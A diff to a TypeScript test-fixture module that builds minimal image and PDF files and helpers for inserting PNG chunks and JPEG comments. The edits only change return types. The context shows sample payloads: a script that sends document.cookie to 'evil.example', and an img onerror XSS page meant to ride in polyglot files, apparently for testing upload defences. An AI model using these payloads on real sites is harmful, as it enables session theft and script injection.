@@ -17,19 +17,22 @@ export const SCRIPT_TAIL = '<script>fetch("https://evil.example/?c="+document.co
 /** The web page a polyglot carries. */
 export const HTML_TAIL = '<!DOCTYPE html><html><body><img src=x onerror="alert(1)"></body></html>';
 
-const base64 = (text: string) => Uint8Array.from(atob(text), (char) => char.charCodeAt(0));
+const base64 = (text: string): Uint8Array<ArrayBuffer> => Uint8Array.from(atob(text), (char) => char.charCodeAt(0));
 
 export const tinyPng = () => base64(PNG);
 export const tinyJpeg = () => base64(JPEG);
 export const tinyWebp = () => base64(WEBP);
 
 /** A HEIC's outline: a `ftyp` box naming the brand, then an `mdat` box of picture data. */
-export function tinyHeic(picture: Uint8Array = new Uint8Array([1, 2, 3, 4, 5, 6, 7, 8])): Uint8Array {
+export function tinyHeic(picture: Uint8Array = new Uint8Array([1, 2, 3, 4, 5, 6, 7, 8])): Uint8Array<ArrayBuffer> {
   return concat(box('ftyp', concat('heic', new Uint8Array(4), 'mif1heic')), box('mdat', picture));
 }
 
 /** A one-page PDF whose content stream holds `streamText` (default: a line of text). */
-export function tinyPdf(streamText = 'BT /F1 18 Tf 20 50 Td (Utility bill) Tj ET', ending = '%%EOF\n'): Uint8Array {
+export function tinyPdf(
+  streamText = 'BT /F1 18 Tf 20 50 Td (Utility bill) Tj ET',
+  ending = '%%EOF\n',
+): Uint8Array<ArrayBuffer> {
   return concat(
     '%PDF-1.4\n',
     '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n',
@@ -56,7 +59,7 @@ export function concat(...parts: (Uint8Array | string)[]): Uint8Array<ArrayBuffe
 }
 
 /** The PNG with a chunk (e.g. a `tEXt` comment) inserted before its `IEND`, with a correct CRC. */
-export function pngWithChunk(png: Uint8Array, type: string, data: string): Uint8Array {
+export function pngWithChunk(png: Uint8Array, type: string, data: string): Uint8Array<ArrayBuffer> {
   const iend = png.length - 12;
   const body = concat(type, data);
   const chunk = concat(u32(data.length), body, u32(crc32(body)));
@@ -64,7 +67,7 @@ export function pngWithChunk(png: Uint8Array, type: string, data: string): Uint8
 }
 
 /** The JPEG with a comment segment (`COM`) right after its start. */
-export function jpegWithComment(jpeg: Uint8Array, comment: string): Uint8Array {
+export function jpegWithComment(jpeg: Uint8Array, comment: string): Uint8Array<ArrayBuffer> {
   const length = comment.length + 2;
   return concat(
     jpeg.subarray(0, 2),
@@ -75,7 +78,7 @@ export function jpegWithComment(jpeg: Uint8Array, comment: string): Uint8Array {
 }
 
 /** An ISO base media box. */
-function box(type: string, payload: Uint8Array): Uint8Array {
+function box(type: string, payload: Uint8Array): Uint8Array<ArrayBuffer> {
   return concat(u32(8 + payload.length), type, payload);
 }
 
